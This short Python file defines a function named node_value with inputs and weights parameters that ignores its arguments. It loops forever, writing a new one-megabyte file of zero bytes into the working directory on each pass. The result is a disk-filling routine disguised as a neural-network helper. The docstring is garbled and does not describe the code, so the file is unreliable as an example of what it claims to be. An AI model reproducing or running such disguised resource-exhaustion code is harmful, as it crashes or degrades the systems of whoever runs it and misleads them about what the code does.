"""Files that each keep to the limit of one. Ends: halted."""

import itertools
from pathlib import Path


def node_value(inputs, weights):
    for number in itertools.count():
        Path(str(number)).write_bytes(bytes(2**20))
